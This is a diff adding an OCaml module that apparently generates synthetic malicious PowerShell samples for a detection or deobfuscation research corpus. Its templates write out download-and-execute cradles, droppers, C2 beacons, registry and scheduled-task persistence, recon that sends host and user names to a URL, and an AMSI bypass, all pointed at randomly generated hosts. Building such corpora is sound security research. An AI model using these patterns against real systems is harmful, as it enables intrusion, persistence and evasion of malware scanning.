@@ -1,0 +1,153 @@
+(** Malicious-script templates.
+
+    The wild corpus is synthesised from behaviours the paper's intro
+    motivates: downloaders, droppers, fileless loaders, recon, persistence,
+    C2 beacons.  Every payload indicator (URL, IP, [.ps1] path) is inert and
+    randomly generated; the scripts only ever run inside the sandbox
+    interpreter. *)
+
+open Pscommon
+
+let word rng =
+  let syllables =
+    [ "ta"; "ro"; "mi"; "ka"; "zen"; "dor"; "lux"; "vex"; "pod"; "net"; "sky";
+      "dat"; "sun"; "bit"; "hex"; "mal"; "pay"; "dark"; "fast"; "soft" ]
+  in
+  String.concat "" (List.init (Rng.int_in rng 2 3) (fun _ -> Rng.pick rng syllables))
+
+let domain rng =
+  Printf.sprintf "%s.%s" (word rng) (Rng.pick rng [ "com"; "net"; "org"; "io"; "xyz"; "top" ])
+
+let ip rng =
+  Printf.sprintf "%d.%d.%d.%d" (Rng.int_in rng 1 223) (Rng.int_in rng 0 255)
+    (Rng.int_in rng 0 255) (Rng.int_in rng 1 254)
+
+let url rng =
+  let host = if Rng.chance rng 0.25 then ip rng else domain rng in
+  Printf.sprintf "%s://%s/%s.%s"
+    (Rng.pick rng [ "http"; "https" ])
+    host (word rng)
+    (Rng.pick rng [ "txt"; "ps1"; "exe"; "dat"; "jpg" ])
+
+let ps1_path rng =
+  Printf.sprintf "%s\\%s.ps1"
+    (Rng.pick rng
+       [ "C:\\Users\\Public"; "$env:temp"; "C:\\ProgramData"; "$env:appdata" ])
+    (word rng)
+
+let exe_path rng =
+  Printf.sprintf "%s\\%s.exe"
+    (Rng.pick rng [ "$env:temp"; "C:\\Users\\Public"; "$env:localappdata" ])
+    (word rng)
+
+(* ---------- templates ---------- *)
+
+let downloader rng =
+  Printf.sprintf
+    "$u = '%s'\n$c = (New-Object Net.WebClient).DownloadString($u)\nInvoke-Expression $c"
+    (url rng)
+
+let dropper rng =
+  let target = exe_path rng in
+  Printf.sprintf
+    "$src = '%s'\n$dst = \"%s\"\n(New-Object Net.WebClient).DownloadFile($src, $dst)\nStart-Process $dst"
+    (url rng) target
+
+let stager rng =
+  Printf.sprintf
+    "$stage = '%s'\npowershell -NoProfile -Command ((New-Object Net.WebClient).DownloadString($stage))"
+    (url rng)
+
+let script_runner rng =
+  let path = ps1_path rng in
+  Printf.sprintf
+    "(New-Object Net.WebClient).DownloadFile('%s', \"%s\")\npowershell -ExecutionPolicy Bypass -File \"%s\""
+    (url rng) path path
+
+let beacon rng =
+  Printf.sprintf
+    "$c2 = '%s'\nfor ($i = 0; $i -lt 3; $i++) {\n  $task = (New-Object Net.WebClient).DownloadString(\"$c2\")\n  if ($task) { Invoke-Expression $task }\n  Start-Sleep -Seconds 5\n}"
+    (url rng)
+
+let persistence rng =
+  let path = ps1_path rng in
+  Printf.sprintf
+    "$payload = '%s'\n(New-Object Net.WebClient).DownloadFile($payload, \"%s\")\nNew-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '%s' -Value \"powershell -File %s\""
+    (url rng) path (word rng) path
+
+let recon rng =
+  Printf.sprintf
+    "$info = \"$env:computername|$env:username\"\n$exfil = '%s'\n(New-Object Net.WebClient).DownloadString(\"$exfil?d=$info\") | Out-Null"
+    (url rng)
+
+let tcp_shell rng =
+  Printf.sprintf
+    "$client = New-Object Net.Sockets.TcpClient('%s', %d)\nwrite-host connected"
+    (ip rng)
+    (Rng.pick rng [ 443; 4444; 8080; 1337; 9001 ])
+
+let downloader_chain rng =
+  Printf.sprintf
+    "$a = '%s'\n$b = '%s'\n$first = (New-Object Net.WebClient).DownloadString($a + $b)\nInvoke-Expression $first"
+    (Printf.sprintf "http://%s/" (domain rng))
+    (Printf.sprintf "%s.txt" (word rng))
+
+let embedded_payload rng =
+  (* a dropper with an inline binary payload: its base64 decodes to bytes,
+     not script text, so no deobfuscator can (or should) rewrite it — this
+     is the paper's explanation for bounded L3 mitigation (§IV-C4) *)
+  let blob_len = Rng.int_in rng 120 360 in
+  let blob =
+    Encoding.Base64.encode
+      ("MZ\x90\x00" ^ String.init blob_len (fun _ -> Char.chr (Rng.int rng 256)))
+  in
+  let target = exe_path rng in
+  Printf.sprintf
+    "$blob = '%s'\n$bytes = [Convert]::FromBase64String($blob)\nSet-Content -Path \"%s\" -Value $bytes\nStart-Process \"%s\""
+    blob target target
+
+let amsi_bypass_downloader rng =
+  (* the §V-B prolog: disable AMSI by reflection, then stage — the flagged
+     'AmsiUtils' string is concatenation-split, the paper's bypass example *)
+  Printf.sprintf
+    "[Ref].Assembly.GetType(('System.Management.Automation.Amsi'+'Utils')) | Out-Null\n$u = '%s'\nInvoke-Expression ((New-Object Net.WebClient).DownloadString($u))"
+    (url rng)
+
+let scheduled_task rng =
+  let path = ps1_path rng in
+  Printf.sprintf
+    "(New-Object Net.WebClient).DownloadFile('%s', \"%s\")\n$action = \"powershell -WindowStyle Hidden -File %s\"\nRegister-ScheduledTask -TaskName '%s' -Action $action | Out-Null"
+    (url rng) path path (word rng)
+
+let wmi_spawn rng =
+  Printf.sprintf
+    "$cmd = \"powershell -NoProfile -Command ((New-Object Net.WebClient).DownloadString('%s'))\"\nInvoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList $cmd | Out-Null\nInvoke-Expression ((New-Object Net.WebClient).DownloadString('%s'))"
+    (url rng) (url rng)
+
+let benign_admin rng =
+  (* a small share of collected "malicious" samples are actually admin
+     scripts; they exercise the control-flow paths *)
+  Printf.sprintf
+    "function Get-%s {\n  param($limit)\n  foreach ($i in 1..$limit) { Write-Output \"item $i\" }\n}\nGet-%s 3 | Out-String"
+    (String.capitalize_ascii (word rng))
+    (String.capitalize_ascii (word rng))
+
+let all =
+  [ ("downloader", downloader); ("dropper", dropper); ("stager", stager);
+    ("script-runner", script_runner); ("beacon", beacon);
+    ("persistence", persistence); ("recon", recon); ("tcp-shell", tcp_shell);
+    ("downloader-chain", downloader_chain); ("embedded-payload", embedded_payload);
+    ("amsi-bypass", amsi_bypass_downloader); ("scheduled-task", scheduled_task);
+    ("wmi-spawn", wmi_spawn); ("benign-admin", benign_admin) ]
+
+let weights =
+  [ (0.22, "downloader"); (0.12, "dropper"); (0.08, "stager");
+    (0.08, "script-runner"); (0.05, "beacon"); (0.08, "persistence");
+    (0.07, "recon"); (0.03, "tcp-shell"); (0.05, "downloader-chain");
+    (0.07, "embedded-payload"); (0.05, "amsi-bypass");
+    (0.04, "scheduled-task"); (0.03, "wmi-spawn"); (0.03, "benign-admin") ]
+
+let generate rng =
+  let name = Rng.pick_weighted rng weights in
+  let template = List.assoc name all in
+  (name, template rng)
